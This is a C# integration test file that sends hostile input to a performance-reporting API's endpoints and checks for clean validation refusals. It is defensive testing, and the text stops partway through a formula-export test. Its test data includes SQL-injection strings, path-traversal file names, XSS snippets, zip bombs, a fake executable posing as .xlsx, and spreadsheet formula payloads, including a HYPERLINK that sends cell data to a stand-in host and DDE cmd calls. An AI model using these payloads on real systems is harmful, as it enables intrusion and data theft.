using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using static Kinerja.Tests.Documents.WorksheetFile;

namespace Kinerja.Tests;

/// <summary>
/// Hostile input against every endpoint that takes input: malformed and mistyped JSON, numbers no field can hold, bad periods
/// and ids, oversized and control-character text, files that are not what they claim (random bytes, truncated zips, zip bombs,
/// formulas, over the limit) and file names that try to climb out of their folder. Each is sent by someone who WOULD be allowed to
/// make the change, so the refusal comes from validation: a 4xx problem+json with a message a person can read, the audit head
/// unmoved and the server still healthy. Text that is accepted (formulas, script) must come out inert in exports and pages.
/// </summary>
public abstract class HostileInputTests(KinerjaFixture f)
{
    private const string Pasrujambe = RecapScenario.Pasrujambe;
    private const string Coordinator = HostileScenario.CoordinatorName;
    private const string AgencyAdmin = "pasrujambe.admin";
    private const string Kasi = HostileScenario.Kasi;
    private const string SystemAdmin = "admin";
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    /// <summary>One hostile request: who sends it, what, and the statuses that are a correct refusal.</summary>
    private sealed record Case(string Name, string User, string Method, string Url, Func<HttpContent?> Body, int[] Expected, string? IfMatch = null);

    /// <summary>Ids the corpus names, all of Kecamatan Pasrujambe; the worksheet is Seksi Kesejahteraan Sosial's in a fresh (draft) round.</summary>
    private sealed record Ids(Guid Agency, Guid Unit, Guid Round, Guid Sheet, Guid Line, Guid? BudgetLine, Guid Indicator, Guid Objective, Guid Report, Guid Position,
        int ManualStep, Dictionary<string, string> ETags);

    [Fact]
    public async Task Every_endpoint_refuses_hostile_input_with_a_message_and_nothing_changes()
    {
        var ids = await SetUpAsync("2026-M06");
        var cases = Corpus(ids);
        var clients = new Dictionary<string, HttpClient>();
        var health = f.CreateClient();
        var failures = new List<string>();
        foreach (var c in cases)
        {
            if (!clients.TryGetValue(c.User, out var client)) clients[c.User] = client = await f.SignedInAsync(c.User);
            var before = AuditHead();
            using var request = new HttpRequestMessage(new HttpMethod(c.Method), c.Url) { Content = c.Body() };
            if (c.IfMatch is not null) request.Headers.TryAddWithoutValidation("If-Match", c.IfMatch);
            using var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            var body = await response.Content.ReadAsStringAsync();
            var what = $"{c.Name} ({c.Method} {Shorten(c.Url)} as {c.User})";
            if (!c.Expected.Contains(status)) failures.Add($"{what}: expected {string.Join('/', c.Expected)}, got {status}: {Shorten(body, 300)}");
            else if (Unreadable(response, body) is { } why) failures.Add($"{what}: {status} but {why}: {Shorten(body, 300)}");
            if (AuditHead() != before) failures.Add($"{what}: the audit head moved (something was saved)");
            var alive = await health.GetAsync("/health");
            if (alive.StatusCode != HttpStatusCode.OK) failures.Add($"{what}: /health answered {(int)alive.StatusCode} afterwards");
        }

        failures.ShouldBeEmpty($"{failures.Count} of {cases.Count} hostile requests were not refused cleanly:\n{string.Join('\n', failures)}\n");
        cases.Count.ShouldBeGreaterThan(150);
    }

    /// <summary>Why a refusal is not one a person can act on: not problem+json, no title, or exception text instead of a message.</summary>
    private static string? Unreadable(HttpResponseMessage response, string body)
    {
        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json") return $"content type {response.Content.Headers.ContentType?.MediaType ?? "none"}, not problem+json";
        JsonElement problem;
        try
        {
            problem = JsonDocument.Parse(body).RootElement;
        }
        catch (JsonException)
        {
            return "the body is not JSON";
        }

        var title = problem.TryGetProperty("title", out var t) ? t.GetString() : null;
        var detail = problem.TryGetProperty("detail", out var d) ? d.GetString() : null;
        if (string.IsNullOrWhiteSpace(title)) return "no title";
        if (string.IsNullOrWhiteSpace(detail) && !problem.TryGetProperty("errors", out _) && !problem.TryGetProperty("problems", out _)) return "no detail, errors or problems";
        var text = title + " " + detail + " " + (problem.TryGetProperty("errors", out var e) ? e.GetRawText() : "");
        string[] leaks = ["Exception", "System.", "Microsoft.", "   at ", "Npgsql", "SQLite", "Failed to read parameter", "stack", "LineNumber", "BytePosition"];
        return leaks.FirstOrDefault(l => text.Contains(l, StringComparison.Ordinal)) is { } leak ? $"the message shows internals (\"{leak}\")" : null;
    }

    private List<Case> Corpus(Ids ids)
    {
        var cases = new List<Case>();
        int[] bad = [400];
        int[] missing = [404];
        int[] tooLarge = [413];
        var a = $"/api/v1/agencies/{ids.Agency}";
        var ws = $"/api/v1/worksheets/{ids.Sheet}";
        var unknown = Guid.NewGuid();
        var huge = new string('x', 300_000);
        const string Nul = "Nama\u0000tersembunyi";

        void Json(string name, string user, string method, string url, string json, int[]? expected = null, string? ifMatch = null) =>
            cases.Add(new Case(name, user, method, url, () => new StringContent(json, Encoding.UTF8, "application/json"), expected ?? bad, ifMatch));
        void Body(string name, string user, string method, string url, object body, int[]? expected = null, string? ifMatch = null) =>
            Json(name, user, method, url, JsonSerializer.Serialize(body), expected, ifMatch);
        void Get(string name, string user, string url, int[]? expected = null) => cases.Add(new Case(name, user, "GET", url, () => null, expected ?? bad));
        void Form(string name, string user, string url, Func<HttpContent> content, int[]? expected = null) => cases.Add(new Case(name, user, "POST", url, content, expected ?? bad));

        // The same malformed shapes to every JSON endpoint.
        var step = $"/api/v1/rounds/{ids.Round}/steps/{ids.ManualStep}/complete";
        string? ETag(string url) => ids.ETags.GetValueOrDefault(url);
        (string User, string Method, string Url)[] jsonEndpoints =
        [
            (SystemAdmin, "POST", "/api/v1/agencies"),
            (AgencyAdmin, "PUT", a),
            (Coordinator, "PUT", $"{a}/achievement-rules"),
            (Coordinator, "POST", $"{a}/holidays"),
            (AgencyAdmin, "POST", $"{a}/units"),
            (AgencyAdmin, "PUT", $"{a}/units/{ids.Unit}"),
            (AgencyAdmin, "POST", $"{a}/users"),
            (AgencyAdmin, "POST", $"{a}/positions"),
            (AgencyAdmin, "POST", $"{a}/positions/{ids.Position}/holders"),
            (Coordinator, "PUT", $"{a}/strategic-plan"),
            (Coordinator, "POST", $"{a}/goals"),
            (Coordinator, "POST", $"{a}/objectives"),
            (Coordinator, "POST", $"{a}/indicators"),
            (Coordinator, "PUT", $"{a}/budget/2026"),
            (Coordinator, "POST", $"{a}/agreements/2026/sign"),
            (Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/targets/2026"),
            (Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/history/2020"),
            (Coordinator, "POST", $"{a}/rounds"),
            (Kasi, "PUT", $"{ws}/lines/{ids.Line}"),
            (Kasi, "POST", $"{ws}/lines/{ids.Line}/comments"),
            (Coordinator, "POST", $"{a}/reports"),
            (Coordinator, "POST", $"{a}/letters"),
            (Coordinator, "PUT", $"/api/v1/reports/{ids.Report}/sections/executive-summary"),
            (Coordinator, "POST", $"/api/v1/reports/{ids.Report}/actions/comment"),
            (Coordinator, "POST", $"/api/v1/sop-templates?agencyId={ids.Agency}"),
            (Coordinator, "POST", step),
            (SystemAdmin, "POST", "/api/v1/auth/token"),
        ];
        foreach (var (user, method, url) in jsonEndpoints)
        {
            // Signing checks that every target is set before it reads the signatories: 409 when another test left an indicator without one.
            int[] expected = url.EndsWith("/auth/token", StringComparison.Ordinal) ? [400, 401] : url.EndsWith("/sign", StringComparison.Ordinal) ? [400, 409] : bad;
            Json("malformed JSON", user, method, url, "{\"name\": \"tanpa penutup", expected, ETag(url));
            Json("JSON that is not an object", user, method, url, "[1, 2, 3]", expected, ETag(url));
            Json("NaN as a bare token", user, method, url, "{\"realization\": NaN, \"name\": NaN}", expected, ETag(url));
            if (url.EndsWith("/achievement-rules", StringComparison.Ordinal)) continue; // no text field: an object without cap or categories is the default scale
            Json("a string of 300 000 characters in every text field", user, method, url, JsonSerializer.Serialize(new
            {
                name = huge, text = huge, title = huge, subject = huge, reason = huge, period = huge, code = huge, explanation = huge, note = huge,
                username = huge, comment = huge, secondPartyName = huge,
            }), expected, ETag(url));
            Json("NUL in every text field", user, method, url, JsonSerializer.Serialize(new
            {
                name = Nul, text = Nul, title = Nul, subject = Nul, reason = Nul, period = Nul, code = Nul, explanation = Nul, note = Nul,
                username = Nul, comment = Nul, secondPartyName = Nul,
            }), expected, ETag(url));
        }

        // Wrong types, numbers no field can hold, bad periods, ids and text per endpoint.
        Body("name of the wrong type", SystemAdmin, "POST", "/api/v1/agencies", new { name = 12, kind = true, government = new[] { 1 } });
        Body("name with NUL", SystemAdmin, "POST", "/api/v1/agencies", new { name = Nul, kind = "kecamatan", government = "Kabupaten Lumajang" });
        Body("letter pattern as SQL", AgencyAdmin, "PUT", a, new { name = Pasrujambe, kind = "kecamatan", letterNumberPattern = "'; drop table agencies; --" }, ifMatch: ETag(a));
        var rules = $"{a}/achievement-rules";
        Body("cap NaN as text", Coordinator, "PUT", rules, new { cap = "NaN" }, ifMatch: ETag(rules));
        Body("cap Infinity as text", Coordinator, "PUT", rules, new { cap = "Infinity" }, ifMatch: ETag(rules));
        Json("cap 1e400", Coordinator, "PUT", rules, "{\"cap\": 1e400}", ifMatch: ETag(rules));
        Body("cap negative", Coordinator, "PUT", rules, new { cap = -1 }, ifMatch: ETag(rules));
        Body("cap huge", Coordinator, "PUT", rules, new { cap = 1e27m }, ifMatch: ETag(rules));
        Body("category bands negative, huge and empty", Coordinator, "PUT", rules,
            new { cap = 120, categories = new object[] { new { above = -5, label = "<script>", colour = "'; drop" }, new { above = 1e27m, label = "", colour = "" } } }, ifMatch: ETag(rules));
        Body("holiday date as text", Coordinator, "POST", $"{a}/holidays", new { date = "'; drop table holidays", name = "Libur" });
        Body("holiday in year 0001", Coordinator, "POST", $"{a}/holidays", new { date = "0001-01-01", name = "Libur" });
        Body("holiday name with NUL", Coordinator, "POST", $"{a}/holidays", new { date = "2026-08-18", name = Nul });
        Body("unit parent not a GUID", AgencyAdmin, "POST", $"{a}/units", new { name = "Seksi Baru", parentId = "../../etc" });
        Body("unit parent unknown", AgencyAdmin, "POST", $"{a}/units", new { name = "Seksi Baru", parentId = unknown }, [400, 404]);
        Body("unit name with NUL", AgencyAdmin, "POST", $"{a}/units", new { name = Nul });
        Body("unit name empty", AgencyAdmin, "POST", $"{a}/units", new { name = "   " });
        Body("unit its own parent", AgencyAdmin, "PUT", $"{a}/units/{ids.Unit}", new { name = "Seksi Kesejahteraan Sosial", parentId = ids.Unit }, [400, 409], ETag($"{a}/units/{ids.Unit}"));
        Body("user name as a path", AgencyAdmin, "POST", $"{a}/users",
            new { username = "../../etc/passwd", password = "Rahasia#2026x", fullName = "Orang", unitId = ids.Unit, role = "staff" });
        Body("user role unknown", AgencyAdmin, "POST", $"{a}/users",
            new { username = "pasrujambe.baru", password = "Rahasia#2026x", fullName = "Orang", unitId = ids.Unit, role = "'; drop table" });
        Body("user NIP of letters", AgencyAdmin, "POST", $"{a}/users",
            new { username = "pasrujambe.baru", password = "Rahasia#2026x", fullName = "Orang", nip = "<script>alert(1)</script>", unitId = ids.Unit, role = "staff" });
        Body("user unit unknown", AgencyAdmin, "POST", $"{a}/users",
            new { username = "pasrujambe.baru", password = "Rahasia#2026x", fullName = "Orang", unitId = unknown, role = "staff" }, [400, 404]);
        Body("password reset too short", AgencyAdmin, "POST", $"{a}/users/{unknown}/password", new { password = "x" }, [400, 404]);
        Body("position role unknown", AgencyAdmin, "POST", $"{a}/positions", new { title = "Kepala", unitId = ids.Unit, role = 42 });
        Body("position title with NUL", AgencyAdmin, "POST", $"{a}/positions", new { title = Nul, unitId = ids.Unit, role = "head" });
        Body("holder dates reversed", AgencyAdmin, "POST", $"{a}/positions/{ids.Position}/holders",
            new { userId = unknown, kind = "definitive", from = "2026-12-31", until = "2026-01-01" }, [400, 404]);
        Body("holder date nonsense", AgencyAdmin, "POST", $"{a}/positions/{ids.Position}/holders", new { userId = "x", kind = "definitive", from = "2026-13-45" });
        Body("end holding of unknown holder", AgencyAdmin, "POST", $"{a}/positions/{ids.Position}/holders/{unknown}/end", new { lastDay = "2026-02-30" }, [400, 404]);
        Body("strategic plan years reversed and negative", Coordinator, "PUT", $"{a}/strategic-plan", new { name = "Renstra", firstYear = 2030, lastYear = -1 }, [400, 428]);
        Body("strategic plan year 1e9", Coordinator, "PUT", $"{a}/strategic-plan", new { name = "Renstra", firstYear = 1_000_000_000, lastYear = 1_000_000_004 }, [400, 428]);
        Body("goal code as SQL", Coordinator, "POST", $"{a}/goals", new { code = "'; drop table goals; --", name = "Tujuan" });
        Body("goal name with NUL", Coordinator, "POST", $"{a}/goals", new { code = "T-9", name = Nul });
        Body("objective of an unknown goal", Coordinator, "POST", $"{a}/objectives", new { code = "S-9", name = "Sasaran", goal = "'; drop" }, [400, 404]);
        Body("indicator weight NaN", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = ids.Unit, measure = "%", polarity = "higher", aggregation = "last", weight = "NaN" });
        Body("indicator weight negative", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = ids.Unit, measure = "%", polarity = "higher", aggregation = "last", weight = -1 });
        Body("indicator objective not a GUID", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = "1 OR 1=1", unitId = ids.Unit, measure = "%", polarity = "higher", aggregation = "last" });
        Body("indicator unit unknown", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = unknown, measure = "%", polarity = "higher", aggregation = "last" }, [400, 404]);
        Body("indicator polarity unknown", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = ids.Unit, measure = "%", polarity = "sideways", aggregation = "last" });
        Body("indicator definition of 300 000 characters", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = ids.Unit, measure = "%", polarity = "higher", aggregation = "last", definition = huge });
        Body("indicator data source with NUL", Coordinator, "POST", $"{a}/indicators",
            new { code = "IKU-99", name = "Indikator", objectiveId = ids.Objective, unitId = ids.Unit, measure = "%", polarity = "higher", aggregation = "last", dataSource = Nul });
        Body("budget pagu negative", Coordinator, "PUT", $"{a}/budget/2026",
            new { lines = new[] { new { code = "1.01", name = "Program", level = "program", pagu = -1m, quarters = new decimal?[] { 0, 0, 0, 0 } } } });
        Body("budget pagu huge", Coordinator, "PUT", $"{a}/budget/2026",
            new { lines = new[] { new { code = "1.01", name = "Program", level = "program", pagu = 1e27m, quarters = new decimal?[] { 0, 0, 0, 0 } } } });
        Json("budget pagu 1e400", Coordinator, "PUT", $"{a}/budget/2026", "{\"lines\":[{\"code\":\"1.01\",\"name\":\"Program\",\"level\":\"program\",\"pagu\":1e400}]}");
        Body("budget line code with NUL", Coordinator, "PUT", $"{a}/budget/2026",
            new { lines = new[] { new { code = "1.0\u00001", name = "Program", level = "program", pagu = 1m, quarters = new decimal?[] { 0, 0, 0, 1 } } } });
        Body("budget year 0", Coordinator, "PUT", $"{a}/budget/0", new { lines = Array.Empty<object>() });
        Body("budget year 99999", Coordinator, "PUT", $"{a}/budget/99999", new { lines = Array.Empty<object>() });
        Body("signing with a date as text", Coordinator, "POST", $"{a}/agreements/2026/sign", new { secondPartyName = "Bupati", place = "Lumajang", date = "kemarin" });
        Body("signing with a NIP of 500 digits", Coordinator, "POST", $"{a}/agreements/2026/sign",
            new { secondPartyName = "Bupati", secondPartyNip = new string('9', 500), place = "Lumajang", date = "2026-01-02" }, [400, 409]);
        Body("signing for an unknown unit", Coordinator, "POST", $"{a}/agreements/2026/sign?unitId={unknown}",
            new { secondPartyName = "Bupati", place = "Lumajang", date = "2026-01-02" }, [400, 404]);
        Body("signing year 0", Coordinator, "POST", $"{a}/agreements/0/sign", new { secondPartyName = "Bupati", place = "Lumajang", date = "2026-01-02" }, [400, 404]);
        var target = $"/api/v1/indicators/{ids.Indicator}/targets/2026";
        Body("target NaN as text", Coordinator, "PUT", target, new { annual = "NaN" });
        Body("target -Infinity as text", Coordinator, "PUT", target, new { annual = "-Infinity" });
        Json("target 1e400", Coordinator, "PUT", target, "{\"annual\": 1e400}");
        Body("target huge", Coordinator, "PUT", target, new { annual = 1e27m });
        Body("target with 28 decimals", Coordinator, "PUT", target, new { annual = 0.0000000000000000000000000001m }, [400, 409, 428]);
        Body("target quarters of wrong count", Coordinator, "PUT", target, new { annual = 10, quarters = new decimal?[] { 1, 2, 3, 4, 5, 6, 7 } }, [400, 428]);
        Body("target quarters huge", Coordinator, "PUT", target, new { annual = 10, quarters = new decimal?[] { 1e27m, 1, 1, 1 } }, [400, 428]);
        Body("target range reversed and huge", Coordinator, "PUT", target, new { annual = 10, rangeLow = 1e27m, rangeHigh = -1e27m }, [400, 428]);
        Body("target reason of 300 000 characters", Coordinator, "PUT", target, new { annual = 10, reason = huge }, [400, 428]);
        Body("target year 0", Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/targets/0", new { annual = 10 });
        Body("target year -1", Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/targets/-1", new { annual = 10 }, [400, 404]);
        Body("target of unknown indicator", Coordinator, "PUT", $"/api/v1/indicators/{unknown}/targets/2026", new { annual = 10 }, missing);
        Body("history NaN", Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/history/2020", new { realization = "NaN" });
        Body("history huge", Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/history/2020", new { realization = 1e27m });
        Body("history year 99999", Coordinator, "PUT", $"/api/v1/indicators/{ids.Indicator}/history/99999", new { realization = 1 });
        foreach (var period in new[] { "2026-Q5", "", "'; drop table rounds; --", "2026-M13", "0000-Q1", "9999999999-Q1", "2026-q1\u0000" })
        {
            Body($"round period \"{period}\"", Coordinator, "POST", $"{a}/rounds", new { period, disposition = new { text = "Kumpulkan." }, deadline = "2026-07-10" });
            Body($"report period \"{period}\"", Coordinator, "POST", $"{a}/reports", new { kind = "quarterly", period });
            Get($"recap period \"{period}\"", Coordinator, $"{a}/recap?period={Uri.EscapeDataString(period)}");
            Get($"recap workbook period \"{period}\"", Coordinator, $"{a}/recap.xlsx?period={Uri.EscapeDataString(period)}");
        }

        Body("round with an unknown SOP", Coordinator, "POST", $"{a}/rounds", new { period = "2026-M11", sopTemplateId = "../../etc/passwd", disposition = new { text = "Kumpulkan." } }, [400, 404]);
        Body("round disposition with NUL", Coordinator, "POST", $"{a}/rounds", new { period = "2026-M11", disposition = new { text = Nul } });
        Body("round deadline nonsense", Coordinator, "POST", $"{a}/rounds", new { period = "2026-M11", disposition = new { text = "Kumpulkan." }, deadline = "2026-02-31" });
        Body("report kind unknown", Coordinator, "POST", $"{a}/reports", new { kind = "<script>", period = "2026-Q1" });
        Body("letter subject with NUL", Coordinator, "POST", $"{a}/letters", new { subject = Nul });
        Body("letter subject empty", Coordinator, "POST", $"{a}/letters", new { subject = "" });

        var line = $"{ws}/lines/{ids.Line}";
        Body("realization NaN as text", Kasi, "PUT", line, new { realization = "NaN" });
        Body("realization Infinity as text", Kasi, "PUT", line, new { realization = "Infinity" });
        Json("realization 1e400", Kasi, "PUT", line, "{\"realization\": 1e400}");
        Json("realization 1e30", Kasi, "PUT", line, "{\"realization\": 1e30}");
        Body("realization huge", Kasi, "PUT", line, new { realization = 1e27m });
        Body("realization of letters", Kasi, "PUT", line, new { realization = "sembilan puluh" });
        Body("realization as an object", Kasi, "PUT", line, new { realization = new { value = 1 } });
        Body("explanation of 300 000 characters", Kasi, "PUT", line, new { realization = 1, explanation = huge });
        Body("explanation with NUL", Kasi, "PUT", line, new { realization = 1, explanation = Nul });
        Body("line with If-Match not a number", Kasi, "PUT", line, new { realization = 1 }, [400, 412], "\"abc\"");
        Body("unknown line", Kasi, "PUT", $"{ws}/lines/{unknown}", new { realization = 1 }, missing);
        Body("line of an unknown worksheet", Kasi, "PUT", $"/api/v1/worksheets/{unknown}/lines/{ids.Line}", new { realization = 1 }, missing);
        Body("line id not a GUID", Kasi, "PUT", $"{ws}/lines/1%20OR%201=1", new { realization = 1 }, missing);
        if (ids.BudgetLine is { } budgetLine)
        {
            Body("budget realization negative", Kasi, "PUT", $"{ws}/budget/{budgetLine}", new { realization = -1 });
            Body("budget realization NaN", Kasi, "PUT", $"{ws}/budget/{budgetLine}", new { realization = "NaN" });
            Body("budget realization huge", Kasi, "PUT", $"{ws}/budget/{budgetLine}", new { realization = 1e27m });
        }

        Body("comment empty", Kasi, "POST", $"{line}/comments", new { text = " " });
        Body("comment with NUL", Kasi, "POST", $"{line}/comments", new { text = Nul });
        Body("comment of wrong type", Kasi, "POST", $"{line}/comments", new { text = new[] { "a" } });
        Body("review decision unknown", Coordinator, "POST", $"{line}/review", new { decision = "'; drop", reason = "x" }, [400, 409]);
        Body("reopen reason with NUL", Coordinator, "POST", $"{ws}/reopen", new { reason = Nul }, [400, 409]);
        Body("section key unknown", Coordinator, "PUT", $"/api/v1/reports/{ids.Report}/sections/..%2F..%2Fetc", new { text = "Uraian" }, [400, 404]);
        var summary = $"/api/v1/reports/{ids.Report}/sections/executive-summary";
        Body("section text with NUL", Coordinator, "PUT", summary, new { text = Nul }, ifMatch: ETag(summary));
        Body("section text of wrong type", Coordinator, "PUT", summary, new { text = 5 }, ifMatch: ETag(summary));
        Body("section text of 300 000 characters", Coordinator, "PUT", summary, new { text = huge }, ifMatch: ETag(summary));
        Body("report action unknown", Coordinator, "POST", $"/api/v1/reports/{ids.Report}/actions/drop-table", new { }, [400, 404]);
        Body("report comment with NUL", Coordinator, "POST", $"/api/v1/reports/{ids.Report}/actions/comment", new { comment = Nul, section = "executive-summary" }, [400, 409]);
        Body("report copies negative", Coordinator, "POST", $"/api/v1/reports/{ids.Report}/actions/record-copies", new { copies = -1 }, [400, 409]);
        Body("report of unknown id", Coordinator, "POST", $"/api/v1/reports/{unknown}/versions", new { reason = "x" }, missing);
        Body("regenerate reason with NUL", Coordinator, "POST", $"/api/v1/reports/{ids.Report}/versions", new { reason = Nul });
        Body("step of number 0", Coordinator, "POST", $"/api/v1/rounds/{ids.Round}/steps/0/complete", new { note = "x" }, [400, 404]);
        Body("step of number 2147483647", Coordinator, "POST", $"/api/v1/rounds/{ids.Round}/steps/2147483647/complete", new { note = "x" }, [400, 404]);
        Body("step of number 99999999999", Coordinator, "POST", $"/api/v1/rounds/{ids.Round}/steps/99999999999/complete", new { note = "x" }, [400, 404]);
        Body("step note of wrong type", Coordinator, "POST", step, new { note = 12 });
        Body("step note with NUL", Coordinator, "POST", step, new { note = Nul });
        Body("notification id unknown", Kasi, "POST", $"/api/v1/me/notifications/{unknown}/read", new { }, missing);
        Body("token with NUL in the name", SystemAdmin, "POST", "/api/v1/auth/token", new { username = "admin\u0000", password = "x" }, [400, 401]);
        Json("SOP template of a wrong shape", Coordinator, "POST", $"/api/v1/sop-templates?agencyId={ids.Agency}", "{\"steps\": \"none\"}");
        Json("SOP template too large", Coordinator, "POST", $"/api/v1/sop-templates?agencyId={ids.Agency}", JsonSerializer.Serialize(new { name = new string('x', 250_000) }));
        Json("SOP template for a non-GUID agency", Coordinator, "POST", "/api/v1/sop-templates?agencyId=..%2F..", "{}");
        Json("holiday of an unknown id", Coordinator, "DELETE", $"{a}/holidays/{unknown}", "{}", missing);
        Json("evidence of an unknown id", Kasi, "DELETE", $"{line}/evidence/{unknown}", "{}", missing);

        // Query strings of reading endpoints: refused with a message, never a fault.
        Get("early warning year -1", Coordinator, $"{a}/early-warning?year=-1");
        Get("early warning year 99999", Coordinator, $"{a}/early-warning?year=99999");
        Get("early warning year of letters", Coordinator, $"{a}/early-warning?year=dua-ribu");
        Get("holidays year 0", Coordinator, $"{a}/holidays?year=0");
        Get("holidays year as SQL", Coordinator, $"{a}/holidays?year=1%3Bdrop");
        Get("letters year 99999", Coordinator, $"{a}/letters?year=99999");
        Get("audit from a nonsense date", Coordinator, $"{a}/audit?from=kemarin");
        Get("audit limit of letters", Coordinator, $"{a}/audit?limit=semua");
        Get("users of a non-GUID unit", Coordinator, $"{a}/users?unitId=..%2F..");
        Get("strategic plan year 99999", Coordinator, $"{a}/strategic-plan?year=99999", [400, 404]);
        Get("budget year 99999", Coordinator, $"{a}/budget/99999");
        Get("agreement year 0", Coordinator, $"{a}/agreements/0", [400, 404]);
        Get("compare versions -1 and 99", Coordinator, $"/api/v1/reports/{ids.Report}/versions/compare?from=-1&to=99", [400, 404]);
        Get("document of version -1", Coordinator, $"/api/v1/reports/{ids.Report}/document.docx?version=-1", [400, 404]);
        Get("government recap of a bad period", SystemAdmin, $"/api/v1/governments/{Guid.Empty}/recap?period=2026-Q5", [400, 404]);
        Get("SOP template id as a path", Coordinator, "/api/v1/sop-templates/..%2F..%2F..%2Fetc%2Fpasswd", missing);
        Get("SOP timing of an unknown agency", Coordinator, $"/api/v1/sop-templates/x/timing?agencyId={unknown}", missing);
        Get("worksheet of an unknown id", Kasi, $"/api/v1/worksheets/{unknown}", missing);
        Get("evidence of an unknown id", Kasi, $"{line}/evidence/{unknown}", missing);

        // Workbook uploads: plan import and the worksheet's Excel, dry run and applied.
        var bomb = ZipBomb(300 * 1024 * 1024, lie: false);
        var liar = ZipBomb(60 * 1024 * 1024, lie: true);
        var planFormula = PlanWithFormula(ids);
        var sheetFormula = WorksheetWithFormula(ids);
        (string Name, byte[] Bytes)[] workbooks =
        [
            ("random bytes", RandomBytes(20_000)),
            ("a truncated zip", sheetFormula[..(sheetFormula.Length / 2)]),
            ("an empty zip", EmptyZip()),
            ($"a zip bomb ({bomb.Length:N0} bytes inflating to 300 MB)", bomb),
            ($"a zip bomb lying about its size ({liar.Length:N0} bytes)", liar),
            ("an executable named .xlsx", [.. "MZ"u8.ToArray(), 0x90, 0, 3, 0, .. new byte[4096]]),
        ];
        var planNul = PlanWithText(ids, "Indikator_x0000_tersembunyi");
        var sheetNul = WorksheetWithText(ids, "Penjelasan_x0000_tersembunyi");
        foreach (var (url, user, formula, nul) in new[] { ($"{a}/plan/import", Coordinator, planFormula, planNul), ($"{ws}/xlsx", Kasi, sheetFormula, sheetNul) })
        {
            foreach (var (name, bytes) in workbooks)
            {
                Form($"workbook: {name}", user, url, () => Upload(bytes, "berkas.xlsx"));
            }

            Form("workbook with formulas", user, url, () => Upload(formula, "berkas.xlsx"));
            Form("workbook with NUL written as _x0000_ in a text cell", user, url, () => Upload(nul, "berkas.xlsx"));
            Form("workbook over the upload limit", user, url, () => Upload(new byte[11 * 1024 * 1024], "besar.xlsx"), tooLarge);
            Form("workbook over the limit as the raw body", user, url, () => new ByteArrayContent(new byte[11 * 1024 * 1024]), tooLarge);
            Form("workbook named ../../etc/passwd", user, url, () => Upload(RandomBytes(500), "../../etc/passwd"));
            Form("workbook named ..\\..\\x.exe", user, url, () => Upload(RandomBytes(500), "..\\..\\x.exe"));
            Form("empty multipart form", user, url, () => new MultipartFormDataContent { { new StringContent("x"), "note" } });
            Form("empty file", user, url, () => Upload([], "kosong.xlsx"));
        }

        // Files attached to a line, to a report (minutes) and to a round step.
        var pdf = "%PDF-1.4\n% bukti\n"u8.ToArray();
        foreach (var (url, user, label) in new[]
                 {
                     ($"{line}/evidence", Kasi, "evidence"), ($"/api/v1/reports/{ids.Report}/minutes", Coordinator, "minutes"),
                     (step, Coordinator, "step file"),
                 })
        {
            Form($"{label} named ../../etc/passwd", user, url, () => Upload(pdf, "../../etc/passwd"));
            Form($"{label} named ..\\..\\x.exe", user, url, () => Upload(pdf, "..\\..\\x.exe"));
            Form($"{label} named with NUL", user, url, () => Upload(pdf, "bukti\u0000.exe"));
            Form($"{label} named with 5 000 characters", user, url, () => Upload(pdf, new string('a', 5000)));
            Form($"{label} named .pdf with HTML inside", user, url, () => Upload("<html><script>alert(1)</script></html>"u8.ToArray(), "bukti.pdf"));
            Form($"{label} over the limit", user, url, () => Upload(new byte[11 * 1024 * 1024], "besar.pdf"), tooLarge);
            Form($"{label} empty", user, url, () => Upload([], "kosong.pdf"));
        }

        Form("evidence link to javascript:", Kasi, $"{line}/evidence", () => Fields(("url", "javascript:alert(1)")));
        Form("evidence link to a file path", Kasi, $"{line}/evidence", () => Fields(("url", "file:///etc/passwd")));
        Form("evidence link of 5 000 characters", Kasi, $"{line}/evidence", () => Fields(("url", "https://contoh.invalid/" + new string('a', 5000))));
        Form("evidence note of 300 000 characters", Kasi, $"{line}/evidence", () => Fields(("note", huge)));
        Form("evidence note with NUL", Kasi, $"{line}/evidence", () => Fields(("note", Nul)));
        Form("evidence as JSON, not a form", Kasi, $"{line}/evidence", () => new StringContent("{\"url\":\"https://contoh.invalid\"}", Encoding.UTF8, "application/json"));
        Form("evidence with nothing", Kasi, $"{line}/evidence", () => Fields(("other", "x")));
        Form("step note of 300 000 characters", Coordinator, step, () => Fields(("note", huge)));
        Form("step note with NUL", Coordinator, step, () => Fields(("note", Nul)));
        return cases;
    }

    [Fact]
    public async Task Formula_text_is_accepted_and_every_exported_workbook_holds_it_as_text_never_as_a_formula()
    {
        var ids = await SetUpAsync("2026-M07");
        var coordinator = await f.SignedInAsync(Coordinator);
        var admin = await f.SignedInAsync(AgencyAdmin);
        var kasi = await f.SignedInAsync(Kasi);
        const string UnitName = "=HYPERLINK(\"http://contoh.invalid/curi?d=\"&A1,\"Klik\")";
        const string IndicatorName = "@SUM(1+1)*cmd|' /C calc'!A0";
        const string Measure = "+1+1";
        const string Explanation = "=cmd|'/c calc'!A1";
        var unit = await admin.PostJson($"/api/v1/agencies/{ids.Agency}/units", new { name = UnitName }, HttpStatusCode.Created);
        var indicator = await coordinator.PostJson($"/api/v1/agencies/{ids.Agency}/indicators", new
        {
